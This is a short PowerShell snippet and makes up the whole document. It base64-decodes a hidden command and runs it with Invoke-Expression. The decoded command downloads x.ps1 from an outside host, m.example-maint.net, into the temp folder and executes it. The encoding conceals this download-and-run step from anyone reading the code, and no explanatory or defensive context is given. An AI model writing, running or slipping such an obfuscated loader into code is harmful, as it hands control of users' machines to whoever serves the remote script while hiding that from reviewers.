$p = "SW52b2tlLVdlYlJlcXVlc3QgLVVyaSBodHRwczovL20uZXhhbXBsZS1tYWludC5uZXQveC5wczEgLU91dEZpbGUgJGVudjpURU1QXHgucHMxOyAmICRlbnY6VEVNUFx4LnBzMQ=="
$cmd = [System.Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($p))
Invoke-Expression $cmd
